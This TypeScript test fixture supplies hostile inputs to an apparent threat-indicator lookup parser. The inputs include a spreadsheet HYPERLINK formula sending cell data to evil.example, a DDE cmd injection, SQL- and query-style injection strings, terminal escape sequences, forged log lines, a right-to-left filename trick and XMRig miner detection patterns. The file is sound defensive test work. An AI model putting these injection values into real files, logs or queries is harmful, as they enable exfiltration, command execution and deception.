/** Lookups whose rows try to break out of what they are written into. */
import type { Lookup } from '../../src/lookups/parse.ts';
import { lookupOf } from './tables.ts';

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

/** Notes and references that mean something in YAML, CSV, STIX or a spreadsheet. */
const TEXTS = [
  FORMULA,
  "+1+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '-2+3',
  ' \t=1+1',
  '\uff1d1+1',
  "'=1",
  'a "quoted", cell\r\nand: a line',
  '# no comment',
  '- {a: *b, c: &d} | > % ! ` ? yes',
  'null',
  "it's \\ over' OR '",
  'ünïcödé 🦜 \u2028 \u0085 \u0007 \ufeff',
  '"}\nevil: true',
];

/** Texts with what is a wildcard or an escape somewhere else. `*` stands for any text. */
export const HOSTILE_GLOBS = [
  'what? 100%_sure',
  'C:\\\\dir\\*\\xmrig',
  '\\?\\\\*literal',
  "' OR file:name = 'x",
  'a] OR [file:size > 0',
  '"; DROP [x] {y}',
  '(?i)^$.+|[a-z]{2}\\d',
  'line\nbreak: {x}',
  '#not a comment: "x"',
] as const;

const described = TEXTS.map((note, i) => ({ note, value: `n${i}.example.org` }));

export const HOSTILE: readonly Lookup[] = [
  lookupOf('domain', [
    ...described,
    { value: '-dash.example.org', note: FORMULA },
    { value: 'xn--mnchen-3ya.example.org' },
  ]),
  lookupOf('port', [3333]),
  lookupOf('address', [
    '51.15.58.224',
    '94.130.12.0/24',
    '2a01:4f8::/32',
    { value: '37.59.43.131', port: 14444 },
    { value: '2001:41d0::5', port: 443, transport: 'tcp' },
  ]),
  lookupOf('url', [
    "example.org/a' OR url:value = 'b",
    'example.org/%_*?q=1&=2',
    '203.0.113.9/x OR  y AND z',
    '2001:db8::9/m.js',
  ]),
  lookupOf('process', ['xm*rig'.replace('*', '?'), 'ünïcödé 🦜.exe', 'a'.repeat(64)]),
  lookupOf('command-line', [
    ...HOSTILE_GLOBS,
    { value: '*--donate*level*', excludes: ['gcc*', "it's"] },
    { value: 'only once', excludes: ['*?\\'] },
  ]),
  lookupOf('user-agent', [...HOSTILE_GLOBS, 'XMRig/*', '*miner*', '*ending']),
  lookupOf('signature', [...HOSTILE_GLOBS, '*Coin?Miner*']),
  lookupOf('payload', ['mining.subscribe', { value: 'login', params: ['agent', 'pass'] }]),
];

/** The hostile lookup of one kind. */
export function hostile(kind: Lookup['kind']): Lookup {
  const lookup = HOSTILE.find((one) => one.kind === kind);
  if (lookup === undefined) throw new Error(`No hostile lookup is of kind ${kind}.`);
  return lookup;
}

/** Texts that steer a terminal, turn the direction of what follows, or begin a line of their own. */
export const STEERING: readonly string[] = [
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31mred',
  '\u0090q\u009c',
  'a\nFORGED error: b',
  'a\r\nFORGED error: b',
  'a\rFORGED',
  'a\u2028FORGED',
  'a\u0085FORGED',
  'a\bb\u007f\0\t\v\f',
  '\u202egnp.exe',
  '\u2066a\u2069 \u061c \u200f',
];
